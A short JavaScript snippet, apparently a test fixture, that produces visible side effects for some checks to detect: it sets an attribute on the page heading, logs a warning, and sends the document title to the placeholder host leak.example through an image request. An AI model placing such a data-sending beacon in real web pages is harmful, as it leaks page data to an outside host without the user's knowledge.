// Everything that the checks must see: a changed attribute, a log entry, a request to elsewhere.
document.querySelector('h1')?.setAttribute('data-leaky', '');
console.warn('leaky');
new Image().src = `http://leak.example/?${document.title}`;
